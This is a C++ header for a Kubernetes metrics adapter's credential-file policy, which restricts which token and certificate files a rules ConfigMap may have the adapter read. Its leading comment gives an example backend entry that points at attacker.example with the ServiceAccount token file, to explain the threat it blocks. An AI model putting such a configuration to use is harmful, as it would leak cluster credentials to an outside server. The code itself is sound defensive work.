// CredentialFilePolicy: which local files the rule file may make the adapter read for a backend
// (`backends[i].bearerTokenFile`, `caFile`, `clientCertFile`, `clientKeyFile`).
//
// Whoever can edit the rules ConfigMap is not necessarily allowed to read the adapter's files:
// without a limit, a backend `{url: https://attacker.example, bearerTokenFile:
// /var/run/secrets/kubernetes.io/serviceaccount/token}` sends the adapter's own ServiceAccount
// token (or any file it can read) to a server of their choosing. So a file is accepted only when,
// after resolving symbolic links and `..` (realpath; relative paths from the working directory), it
// is
//   - inside one of the directories the operator allowed (`--allowed-credential-dir`, repeatable),
//     or
//   - one of the files the adapter's own flags name (--prometheus-token-file, -ca-file,
//     -client-cert-file, -client-key-file), which the operator chose already.
// By default no directory is allowed. CA files are included: not secret, but reading any file on
// the rule author's word also tells them which files exist. Files inside an allowed directory
// are trusted as they are at load time; whoever can write there is trusted anyway.
//
// A rejected file makes the rule file invalid (`FILE:LINE:COL: backends[1].bearerTokenFile: ...`):
// exit 2 at start, the previous rules kept on a reload (config_reloader.h). Each rejected path is
// logged once (warning) and every rejection is counted in /metrics:
//   gpuscale_config_rejected_credential_files_total   counter
//
// Thread safety: immutable after create(), except the log-once set and the counter, which are
// thread-safe; check() may run from any thread.
#pragma once

#include <prometheus/counter.h>
#include <prometheus/registry.h>

#include <memory>
#include <mutex>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "gpuscale/core/result.h"
#include "gpuscale/prom/options.h"
#include "gpuscale/rules/backend.h"

namespace gpuscale::adapter {

class CredentialFilePolicy {
 public:
  // `dirs` are resolved now: a directory that does not exist is an error (a typo would otherwise
  // reject every file). `flagFiles` are resolved too; the ones that do not exist yet are skipped.
  // `registry` may be null (no counter).
  static core::Result<std::shared_ptr<const CredentialFilePolicy>> create(
      const std::vector<std::string>& dirs, const std::vector<std::string>& flagFiles,
      const std::shared_ptr<prometheus::Registry>& registry);

  // Ok when `path` is allowed (see above); otherwise a PermissionDenied-style Status (HTTP 403,
  // reason Forbidden) naming the path, what it resolves to and the flag that would allow it.
  core::Status check(const std::string& path) const;

  // Every file `spec` names, checked in field order; the error names the field
  // ("FILE:LINE:COL: backends[1].bearerTokenFile: ...", with `ruleFile` for FILE).
  core::Status checkBackend(const rules::BackendSpec& spec, const std::string& ruleFile) const;

  const std::vector<std::string>& dirs() const { return dirs_; }

 private:
  CredentialFilePolicy() = default;
  void reject(const std::string& path, const std::string& why) const;

  std::vector<std::string> dirs_;  // resolved
  std::set<std::string> files_;    // resolved
  prometheus::Counter* rejected_ = nullptr;
  mutable std::mutex logMu_;
  mutable std::set<std::string> logged_;
};

// The credential files the flags name (the default backend's), for create().
std::vector<std::string> flagCredentialFiles(const prom::PrometheusOptions& options);

}  // namespace gpuscale::adapter
